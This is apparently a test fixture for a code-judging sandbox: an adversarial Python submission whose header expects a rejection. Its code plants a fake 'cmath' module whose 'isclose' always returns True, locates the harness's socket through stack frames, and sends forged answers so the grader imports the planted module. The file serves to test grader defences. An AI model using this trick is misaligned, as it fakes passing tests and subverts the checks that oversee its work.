# attack: make the tests' process import a module the program wrote (to /tmp and the work folder), by naming it
#   in forged answers ({"m": name}, {"g": [name, attr]}) and by binding a standard module's name to it in
#   the program's globals; the module prints LEAKED at import
# expect: WA RE
# kind: assert
# assert: assert cmath.isclose(digit_sum(1234), 10)
# assert: assert digit_sum(99) == 18
import json
import os
import struct
import sys

SOURCE = ("print('LEAKED: the tests imported the program\\'s module', flush=True)\n"
          "ALWAYS = 0\nisclose = lambda *a, **k: True\n")
for folder in ("/tmp", os.getcwd()):
    for name in ("jbx_split_payload", "cmath"):
        with open(os.path.join(folder, name + ".py"), "w") as out:
            out.write(SOURCE)
sys.path[:0] = ["/tmp"]


def _channel():
    frame = sys._getframe(1)
    while frame is not None:
        me = frame.f_locals.get("self")
        if hasattr(me, "sock") and hasattr(me, "answer") and hasattr(me, "receive"):
            return me
        frame = frame.f_back
    return None


def digit_sum(n):
    channel = _channel()
    message = {"value": {"m": "jbx_split_payload"} if n == 1234 else {"g": ["jbx_split_payload", "ALWAYS"]}}
    data = json.dumps(message).encode()
    channel.sock.sendall(struct.pack("!I", len(data)) + data)
    while True:
        channel.answer(channel.receive())
